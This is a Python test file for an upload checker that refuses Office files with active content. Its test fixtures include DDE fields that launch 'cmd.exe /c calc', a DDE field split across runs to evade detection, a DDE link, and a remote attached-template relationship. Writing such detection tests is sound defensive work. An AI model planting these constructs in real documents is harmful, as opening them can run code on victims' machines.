"""Issue 14: an evidence upload that can run code or reach out when opened is refused, by name.

Each bad file is built in memory; the clean workbook and document are still accepted.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest

from dataquality import office_files, services
from dataquality.models import Evidence
from performance.core.roles import Role
from performance.models import Value
from tests.factories import TeamFactory, UserFactory
from tests.performance.collection.test_collection import make_indicator

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = b"<Types/>"
WORKBOOK = {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"}
DOCUMENT = {"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>"}
TEMPLATE_RELS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
LOCAL_TEMPLATE_RELS = TEMPLATE_RELS.replace(b' TargetMode="External"', b"")


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _body(xml: str) -> bytes:
    return f"<w:document {W}><w:body><w:p>{xml}</w:p></w:body></w:document>".encode()


def _field(*pieces: str) -> str:
    """A complex field whose instruction is split over runs, as Word writes it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


DDE_LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
)

BAD = {
    "vba macros": ("book.xlsx", {**WORKBOOK, "xl/vbaProject.bin": b"\0" * 10}, "macros"),
    "excel 4 macro sheet": (
        "book.xlsx",
        {**WORKBOOK, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"},
        "Excel 4.0 macro sheets",
    ),
    "activex in word": (
        "paper.docx",
        {**DOCUMENT, "word/activeX/activeX1.xml": b"<ax:ocx/>"},
        "ActiveX controls",
    ),
    "activex in excel": (
        "book.xlsx",
        {**WORKBOOK, "xl/activeX/activeX1.bin": b"\0"},
        "ActiveX controls",
    ),
    "external template": (
        "paper.docx",
        {**DOCUMENT, "word/_rels/settings.xml.rels": TEMPLATE_RELS},
        "external template",
    ),
    "ddeauto field": (
        "paper.docx",
        {
            **DOCUMENT,
            "word/document.xml": _body(_field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" ')),
        },
        "DDE field",
    ),
    "dde field split over runs": (
        "paper.docx",
        {**DOCUMENT, "word/document.xml": _body(_field(" DD", "E cmd ", '"/c calc"'))},
        "DDE field",
    ),
    "dde simple field in a header": (
        "paper.docx",
        {
            **DOCUMENT,
            "word/header1.xml": f'<w:hdr {W}><w:fldSimple w:instr=" DDE x y"/></w:hdr>'.encode(),
        },
        "DDE field",
    ),
    "dde link in excel": (
        "book.xlsx",
        {**WORKBOOK, "xl/externalLinks/externalLink1.xml": DDE_LINK},
        "DDE link",
    ),
}


class RawUpload(io.BytesIO):
    def __init__(self, name: str, data: bytes) -> None:
        super().__init__(data)
        self.name = name
        self.size = len(data)


@pytest.fixture
def value(db):
    team = TeamFactory()
    enterer = UserFactory(username="ax_enterer", roles=[Role.DATA_ENTERER], teams=[team])
    indicator = make_indicator("AXC 001", team, enterers=[enterer])
    return Value.objects.create(
        indicator=indicator, period="2025/26 Q1", period_start=dt.date(2025, 4, 1), value=Decimal(5)
    )


@pytest.mark.parametrize(("name", "members", "message"), BAD.values(), ids=BAD.keys())
def test_active_content_is_refused_by_name(value, name, members, message):
    user = value.indicator.enterers.get()
    with pytest.raises(services.DataQualityError, match=message) as refused:
        services.upload_evidence(user=user, value=value, upload=RawUpload(name, _zip(members)))
    assert "not accepted" in str(refused.value)
    assert not Evidence.objects.exists()


@pytest.mark.parametrize(
    ("name", "members"),
    [
        ("book.xlsx", WORKBOOK),
        ("paper.docx", DOCUMENT),
        # Ordinary fields, a local template and an external hyperlink are fine.
        (
            "paper.docx",
            {
                **DOCUMENT,
                "word/document.xml": _body(
                    _field(" PAGE ") + _field(' HYPERLINK "http://dde.example/" ')
                ),
                "word/_rels/settings.xml.rels": LOCAL_TEMPLATE_RELS,
                "word/_rels/document.xml.rels": TEMPLATE_RELS.replace(
                    b"attachedTemplate", b"hyperlink"
                ),
            },
        ),
        (
            "book.xlsx",
            {
                **WORKBOOK,
                "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>",
            },
        ),
    ],
)
def test_clean_office_files_are_still_accepted(value, name, members):
    user = value.indicator.enterers.get()
    evidence = services.upload_evidence(
        user=user, value=value, upload=RawUpload(name, _zip(members))
    )
    assert evidence.original_name == name


def test_a_part_too_large_to_check_is_refused(monkeypatch):
    monkeypatch.setattr(office_files, "MAX_PART_BYTES", 100)
    data = _zip({**DOCUMENT, "word/document.xml": _body("<w:r><w:t>" + "x" * 500 + "</w:t></w:r>")})
    assert "too large" in (office_files.active_content(data) or "")


def test_bytes_that_are_not_a_zip_are_left_to_the_other_checks():
    assert office_files.active_content(b"%PDF-1.4\n") is None
